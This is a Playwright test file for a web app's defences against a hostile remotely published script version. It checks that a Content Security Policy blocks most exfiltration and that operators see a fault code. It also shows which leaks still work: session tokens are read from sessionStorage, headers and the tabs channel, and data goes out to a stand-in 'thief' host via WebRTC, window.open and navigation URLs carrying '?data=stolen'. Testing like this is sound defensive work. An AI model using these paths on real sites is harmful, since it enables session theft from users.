import type { Page } from '@playwright/test';
import { attack, type Loot } from '../../fixtures/hostile-code.js';
import { startAt } from '../../fixtures/prepared-enrolment.js';
import { test } from '../../fixtures/remote-versions.js';
import { expect } from '../../fixtures/test.js';
import { aMover } from '../../support/mover.js';
import { atMount, pin, pinnedBrand, statusOf } from '../../support/registry.js';
import { Thief } from '../../support/thief.js';

const lootOf = (page: Page) => page.evaluate(() => Reflect.get(window, 'loot') as Loot);

test(
  'a hostile version can read the session and leave the page, and sends nothing to another origin while the page stays',
  { tag: ['@full', '@shell'] },
  async ({ page, journey, header, versions }) => {
    const thief = await Thief.start();
    const target = JSON.stringify({ host: thief.host, stun: thief.stun, scope: pinnedBrand });
    const { broken: hostile } = await versions.publishBroken(atMount(`(${String(attack)})(${target})`));
    await startAt(page, aMover({ wants: 'all' }), 'councilWater', { brand: pinnedBrand });
    await expect(journey.councilWater.council.card).toContainText('Bedford Borough Council');

    await test.step('requests, frames, scripts, styles and workers are blocked', async () => {
      await expect.poll(async () => (await lootOf(page)).tokens['react'], { timeout: 30_000 }).toBeDefined();
      await expect.poll(async () => Object.values((await lootOf(page)).attempts)).not.toContain('started');
      const { attempts } = await lootOf(page);
      expect(attempts['service worker']).toContain('Content Security Policy');
      // No browser implements the policy's directive for WebRTC yet: its packets do leave.
      await expect.poll(() => thief.received()).toEqual(['/webrtc']);
    });

    await test.step('operators see the attempts', async () => {
      await expect
        .poll(
          async () => (await statusOf(hostile)).health.brands.flatMap(({ faults }) => faults.map(({ code }) => code)),
          {
            timeout: 30_000,
          },
        )
        .toContain('HM-702');
    });

    await test.step('sheets are refused; elements of the shell can be changed', async () => {
      expect((await lootOf(page)).restyled).toEqual({
        'style element': false,
        'adopted sheet': false,
        'style attribute': false,
        'properties of an element': true,
      });
      await expect(header.bar).toBeVisible();
    });

    await test.step('the session of the page is readable by every script of its origin', async () => {
      await journey.councilWater.next.click();
      await expect(journey.productSelection.title).toBeVisible();
      const { tokens } = await lootOf(page);
      // The refresh token is not a JWT, so only one of the two is recognised in the channel of the tabs.
      expect(tokens).toMatchObject({ localStorage: 0, cookies: 0, globals: 0, react: 0, sessionStorage: 2, tabs: 1 });
      expect(tokens['headers']).toBeGreaterThan(0);
    });

    await test.step('windows and navigations are not covered by any policy', async () => {
      const at = (path: string) => `http://${thief.host}/${path}?data=stolen`;
      const opened = page.waitForEvent('popup');
      await page.evaluate((url) => void window.open(url), at('window'));
      await (await opened).close();
      await page.evaluate((url) => window.location.assign(url), at('navigation'));
      await page.waitForURL(/navigation/);
      expect(thief.received()).toEqual(['/navigation', '/webrtc', '/window']);
    });
    await thief.end();
    await pin(null);
  },
);
